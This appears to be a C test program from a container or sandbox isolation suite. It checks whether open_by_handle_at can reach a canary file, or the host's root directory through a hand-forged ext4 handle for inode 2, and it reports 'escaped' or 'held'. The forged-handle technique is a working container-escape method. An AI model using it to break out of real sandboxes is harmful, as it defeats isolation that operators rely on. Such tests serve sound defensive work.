#include "attempt.h"

int main(void)
{
	struct {
		struct file_handle h;
		unsigned char more[128];
	} any = {.h.handle_bytes = 128};
	int id, mount = open("/data", O_RDONLY);
	const char *path = canary("CANARY_FILE");
	if (access(path, F_OK) < 0)
		path = "/data/hello";
	else
		mount = open(canary("CANARY_DIR"), O_RDONLY);
	if (name_to_handle_at(AT_FDCWD, path, &any.h, &id, 0) < 0)
		broken("name_to_handle_at");
	int fd = open_by_handle_at(mount, &any.h, O_RDONLY);
	if (fd >= 0) {
		char buf[64] = "";
		if (read(fd, buf, sizeof buf - 1) < 0)
			broken("read");
		escaped("by its number it is %s", buf);
	}
	int saved = errno;
	/* The root directory is number 2 of ext4, of no generation. */
	memset(any.h.f_handle, 0, 8);
	any.h.f_handle[0] = 2, any.h.handle_bytes = 8, any.h.handle_type = 1;
	fd = open_by_handle_at(mount, &any.h, O_RDONLY);
	if (fd >= 0)
		escaped("the root of the host's file system could be opened");
	held("open_by_handle_at: %s", strerror(saved));
}
